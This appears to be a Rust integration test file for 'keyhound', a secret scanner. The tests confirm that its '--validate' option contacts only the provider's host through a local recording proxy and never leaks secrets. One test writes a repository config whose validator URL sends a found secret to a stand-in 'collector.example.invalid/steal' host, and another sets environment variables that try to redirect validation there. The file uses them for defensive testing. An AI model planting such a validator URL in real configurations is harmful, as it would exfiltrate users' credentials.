//! `--validate` through the real binary, its safety: what is sent where, and what never is.
//! No test reaches the internet: requests go to a recording proxy on localhost (see
//! common_proxy), and the NO_PROXY case runs the binary in a network namespace of its own,
//! where nothing can leave at all.

mod common_hostile;
mod common_proxy;

use common_hostile::{findings, generic_secret, keyhound, report, run, write, Run};
use common_proxy::{repo_with_token, scan, Proxy};

#[test]
fn validate_sends_one_connect_to_the_providers_host_and_reports_unknown() {
    let (dir, token) = repo_with_token();
    let proxy = Proxy::start();
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "json"],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines(), ["CONNECT api.github.com:443 HTTP/1.1"]);
    let found = findings(&out);
    assert_eq!(found.len(), 2);
    for f in &found {
        assert_eq!(f["validation"]["status"], "unknown", "{f}");
        let reason = f["validation"]["reason"].as_str().unwrap();
        assert!(reason.contains("proxy"), "{reason}");
    }
    common_hostile::assert_no_raw(&out, &[&token]);
    // The same run in SARIF and GitHub annotations carries the verdict too.
    let sarif = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "sarif"],
    );
    let doc = report(&sarif);
    let result = &doc["runs"][0]["results"][0];
    assert_eq!(result["properties"]["validation"], "unknown", "{result}");
    let github = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "github"],
    );
    assert!(
        github.stdout.contains("unknown%3A ") || github.stdout.contains("unknown: "),
        "{}",
        github.stdout
    );
    let human = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--format",
            "human",
            "--color",
            "never",
        ],
    );
    assert!(
        human.stdout.contains("validation: unknown"),
        "{}",
        human.stdout
    );
    let gitlab = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "gitlab"],
    );
    let doc = report(&gitlab);
    let description = doc["vulnerabilities"][0]["description"].as_str().unwrap();
    assert!(
        description.contains("Validation (`--validate`): `unknown: "),
        "{description}"
    );
}

#[test]
fn without_validate_no_connection_is_made() {
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    for format in ["json", "sarif", "human"] {
        let out = scan(dir.path(), &proxy, &["dir", ".", "--format", format]);
        assert_eq!(out.code, 1, "{}", out.stderr);
    }
    let out = scan(dir.path(), &proxy, &["dir", ".", "--format", "json"]);
    assert!(findings(&out).iter().all(|f| f.get("validation").is_none()));
    assert!(proxy.lines().is_empty(), "{:?}", proxy.lines());
}

#[test]
fn the_environment_turns_validation_on_as_the_flag_does() {
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    let mut cmd = keyhound();
    cmd.env_remove("NO_PROXY").env_remove("no_proxy");
    let out = run(cmd
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .env("KEYHOUND_VALIDATE", "1")
        .args(["dir", ".", "--format", "json"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines().len(), 1);
}

#[test]
fn no_proxy_is_respected() {
    let (dir, _) = repo_with_token();
    // An unrelated NO_PROXY entry leaves the provider's host proxied.
    let proxy = Proxy::start();
    let mut cmd = keyhound();
    let out = run(cmd
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .env("NO_PROXY", "localhost,example.com,hub.com")
        .args(["dir", ".", "--validate", "--format", "json"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines().len(), 1);
    // NO_PROXY naming the host sends it direct: run in a network namespace of its own, so the
    // direct attempt cannot leave the machine (skipped where namespaces are not allowed).
    let unshare = std::process::Command::new("unshare")
        .args(["-n", "true"])
        .status();
    if !unshare.is_ok_and(|s| s.success()) {
        eprintln!("skipped: no network namespaces here");
        return;
    }
    let bin = assert_cmd::cargo::cargo_bin("keyhound");
    let output = std::process::Command::new("unshare")
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .env("NO_PROXY", "github.com")
        .env_remove("no_proxy")
        .arg("-n")
        .arg(bin)
        .args(["dir", ".", "--validate", "--format", "json"])
        .output()
        .unwrap();
    let out = Run::from(output);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let reason = findings(&out)[0]["validation"]["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        !reason.contains("proxy"),
        "went direct, not through the proxy: {reason}"
    );
    assert_eq!(proxy.lines().len(), 1, "no second CONNECT");
}

#[test]
fn a_repository_config_cannot_declare_a_validator() {
    let (dir, _) = repo_with_token();
    let config = r#"
[[rule]]
id = "demo-token"
name = "Demo token"
provider = "Demo"
description = "A made-up token format for tests."
keywords = ["hdemo_"]
regex = '\b(?P<secret>hdemo_[0-9A-Za-z]{32})\b'
severity = "critical"
confidence = "high"
revoke_url = "https://example.invalid/revoke"

[rule.validate]
docs = "https://example.invalid/docs"
url = "https://collector.example.invalid/steal?key={secret}"
"#;
    write(dir.path(), "keyhound.toml", config);
    let proxy = Proxy::start();
    for args in [&["dir", "."][..], &["dir", ".", "--validate"][..]] {
        let out = scan(dir.path(), &proxy, args);
        assert_eq!(out.code, 2, "{}", out.stdout);
        assert!(
            out.stderr.contains("cannot declare validators"),
            "{}",
            out.stderr
        );
    }
    assert!(proxy.lines().is_empty());
    // A config named on the command line may declare validators for its own rules.
    let trusted = tempfile::tempdir().unwrap();
    write(trusted.path(), "trusted.toml", config);
    std::fs::remove_file(dir.path().join("keyhound.toml")).unwrap();
    let token = common_hostile::token("hdemo_", 3);
    write(dir.path(), "c.env", format!("DEMO={token}\n"));
    let config_path = trusted.path().join("trusted.toml");
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--format",
            "json",
            "--config",
            config_path.to_str().unwrap(),
        ],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let mut lines = proxy.lines();
    lines.sort();
    assert_eq!(
        lines,
        [
            "CONNECT api.github.com:443 HTTP/1.1",
            "CONNECT collector.example.invalid:443 HTTP/1.1"
        ]
    );
}

#[test]
fn generic_findings_are_never_sent() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "settings.env",
        format!("API_KEY={}\n", generic_secret(11)),
    );
    let proxy = Proxy::start();
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "json"],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let found = findings(&out);
    assert!(!found.is_empty());
    for f in &found {
        assert!(f["rule"].as_str().unwrap().starts_with("generic"), "{f}");
        assert_eq!(f["validation"]["status"], "unknown");
        assert!(f["validation"]["reason"]
            .as_str()
            .unwrap()
            .contains("generic"));
    }
    assert!(proxy.lines().is_empty(), "{:?}", proxy.lines());
}

#[test]
fn only_live_and_fail_on_live_fail_only_on_live_keys() {
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    // The proxy refuses, so the key is `unknown`: not live, so not reported, exit 0.
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--only-live", "--format", "json"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(findings(&out).is_empty());
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--validation-filter",
            "unknown,invalid",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 1);
    assert_eq!(findings(&out).len(), 2);
    // Filters and --fail-on live without --validate are refused, before any scan.
    for args in [
        &["dir", ".", "--only-live"][..],
        &["dir", ".", "--validation-filter", "live"][..],
        &["ci", ".", "--fail-on", "live"][..],
    ] {
        let out = scan(dir.path(), &proxy, args);
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(out.stderr.contains("--validate"), "{}", out.stderr);
    }
    // Validation is refused where it has no use.
    let out = scan(dir.path(), &proxy, &["baseline", "dir", ".", "--validate"]);
    assert_eq!(out.code, 2);
    assert!(proxy.lines().len() == 2, "{:?}", proxy.lines());
}

#[test]
fn a_scan_without_validate_creates_no_network_socket() {
    // strace shows every socket the process (and its threads) creates; skipped without it.
    let Ok(probe) = std::process::Command::new("strace").arg("-V").output() else {
        eprintln!("skipped: no strace");
        return;
    };
    if !probe.status.success() {
        return;
    }
    let (dir, _) = repo_with_token();
    let bin = assert_cmd::cargo::cargo_bin("keyhound");
    let trace = |validate: bool| {
        let log = dir.path().join(format!("strace-{validate}.log"));
        let mut cmd = std::process::Command::new("strace");
        cmd.current_dir(dir.path())
            .env("HTTPS_PROXY", "http://127.0.0.1:9")
            .args(["-f", "-e", "trace=socket", "-o"])
            .arg(&log)
            .arg(&bin)
            .args(["dir", "a.env", "b.env", "--format", "json"]);
        if validate {
            cmd.arg("--validate");
        }
        let status = cmd.output().unwrap().status;
        assert_eq!(status.code(), Some(1));
        std::fs::read_to_string(log).unwrap()
    };
    let without = trace(false);
    assert!(!without.contains("AF_INET"), "{without}");
    // The same check sees the socket --validate opens (to the proxy).
    assert!(trace(true).contains("AF_INET"));
}

#[test]
fn nothing_outside_a_test_build_can_point_a_validator_elsewhere() {
    // The mock route exists only in unit-test builds (cfg(test)); the binary has no switch for
    // it. Whatever a user's environment holds, a GitHub token goes to api.github.com.
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    let mut cmd = keyhound();
    cmd.env_remove("NO_PROXY").env_remove("no_proxy");
    for (var, value) in [
        ("KEYHOUND_VALIDATE_URL", "https://127.0.0.1:1/"),
        ("KEYHOUND_VALIDATION_HOST", "collector.example.invalid"),
        ("KEYHOUND_MOCK", "1"),
        ("SSL_CERT_FILE", "/nonexistent.pem"),
        ("GITHUB_API_URL", "https://collector.example.invalid/api"),
    ] {
        cmd.env(var, value);
    }
    let out = run(cmd
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .args(["dir", ".", "--validate", "--format", "json"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines(), ["CONNECT api.github.com:443 HTTP/1.1"]);
}
